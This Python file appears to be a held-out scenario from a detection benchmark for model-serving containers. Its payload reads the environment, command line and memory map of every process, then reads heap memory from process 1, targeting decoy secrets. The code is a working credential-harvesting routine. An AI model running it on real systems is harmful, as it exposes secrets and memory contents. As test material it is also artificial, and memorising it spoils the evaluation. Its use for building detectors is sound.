"""
id: V07
name: proc-harvest
class: quiet
set: held-out
phase: serve
trigger: request
evidence: [file, privilege]
techniques: [T1003.007, T1057, T1552.001, AML.T0055]
servers: [fastapi, bentoml, triton]
seconds: 10
what: >
  Reads the environment, the command line and the memory map of every process there is, and a few KB of the first one's
  memory. All of it are the container's own, with decoys in them.
"""

import contextlib
import os

FIRST = 1
PAGE = 4096


def payload(world):
    for process in [name for name in os.listdir("/proc") if name.isdigit()]:
        for what in ("environ", "cmdline", "maps"):
            with contextlib.suppress(OSError):
                read(f"/proc/{process}/{what}")
        world.sleep(world.random.uniform(0, 0.2))
    with contextlib.suppress(OSError):
        steal(FIRST)


def read(path):
    with open(path, "rb") as file:
        return file.read(1 << 20)


def steal(process):
    maps = read(f"/proc/{process}/maps").decode()
    heap = next((line for line in maps.splitlines() if line.endswith("[heap]")), maps.splitlines()[0])
    memory = os.open(f"/proc/{process}/mem", os.O_RDONLY)
    try:
        os.pread(memory, PAGE, int(heap.split("-")[0], 16))
    finally:
        os.close(memory)
